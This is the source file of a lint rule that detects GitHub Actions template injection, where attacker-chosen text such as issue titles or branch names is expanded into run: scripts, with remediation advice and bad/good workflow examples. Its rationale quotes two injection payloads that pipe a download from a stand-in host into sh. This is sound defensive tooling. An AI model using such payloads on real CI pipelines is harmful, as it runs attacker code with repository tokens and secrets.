import { defineRule } from '../../src/engine/rule.js';
import { stepKey, stepLabel, stepScripts } from '../../src/model/pipeline-facts.js';

export default defineRule({
  id: 'ci/template-injection',
  title: 'Attacker-controlled expression expanded into a script',
  severity: 'high',
  status: 'preview',
  severities: [
    { severity: 'high', when: 'the expression reads text anyone can choose: issue, PR, comment or review titles and bodies, branch names (`github.head_ref`, `pull_request.head.ref`, `workflow_run.head_branch`), commit messages and author names' },
    { severity: 'medium', when: 'the expression reads a `workflow_dispatch` string input (only users with write access, but free text)' },
  ],
  description:
    'Finds `${{ ... }}` expressions of attacker-controlled contexts inside `run:` scripts and `actions/github-script` `script:`. GitHub substitutes them into the script text before the shell or JavaScript runs.',
  rationale:
    'A PR titled `"; curl evil.sh | sh; "` or a branch named `$(curl${IFS}evil.sh|sh)` becomes code in the runner, with the job\'s token and secrets. ' +
    'We report only contexts whose text an outsider chooses; unlike zizmor we do not report `env.*`, `steps.*.outputs.*`, `needs.*.outputs.*` or reusable-workflow inputs (what zizmor users report as false positives, zizmor#1166, #1638), nor numbers, SHAs, ids, step outcomes, secrets, typed (`boolean`/`choice`/`number`) inputs or static `matrix` values.',
  remediation:
    'Pass the value through an environment variable and quote it in the shell: `env: { TITLE: ${{ github.event.issue.title }} }` then `echo "$TITLE"`; in github-script read `context.payload` instead of an expression.',
  references: [
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    'https://docs.zizmor.sh/audits/#template-injection',
  ],
  tags: ['security', 'ci', 'github-actions'],
  reads: ['pipelines'],
  kinds: ['github-workflow', 'github-action'],
  security: true,
  example: {
    language: 'yaml',
    path: '.github/workflows/triage.yml',
    bad: 'on: issues\npermissions:\n  issues: write\njobs:\n  triage:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "New issue - ${{ github.event.issue.title }}"\n',
    good: 'on: issues\npermissions:\n  issues: write\njobs:\n  triage:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "New issue - $TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
  },
  check(ctx) {
    for (const pipeline of ctx.model.pipelines)
      for (const s of stepScripts(pipeline))
        for (const e of s.expressions) {
          const attacker = e.contexts.find((c) => c.control === 'attacker');
          const input = e.contexts.find((c) => c.control === 'dispatch-input');
          const c = attacker ?? input;
          if (!c) continue;
          const where = s.kind === 'run' ? 'the `run:` script' : 'the github-script `script:`';
          const lang = s.kind === 'run' ? 'shell' : 'JavaScript';
          ctx.report({
            at: e.location,
            message:
              `${cap(stepLabel(pipeline, s.job, s.step))} expands ${e.text} into ${where}: ${attacker ? 'anyone who can open an issue or pull request, comment or name a branch chooses this text' : 'whoever dispatches the workflow types this text'}, and it becomes ${lang} code that runs with the job's token and secrets. ` +
              (s.kind === 'run' ? 'Pass it through `env:` and use "$VAR" in the script.' : 'Pass it through `env:` and read `process.env`, or use `context.payload`.'),
            key: `${stepKey(pipeline, s.job, s.step)} ${s.kind} ${c.path}`,
            severity: attacker ? undefined : 'medium',
          });
        }
  },
});

function cap(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}
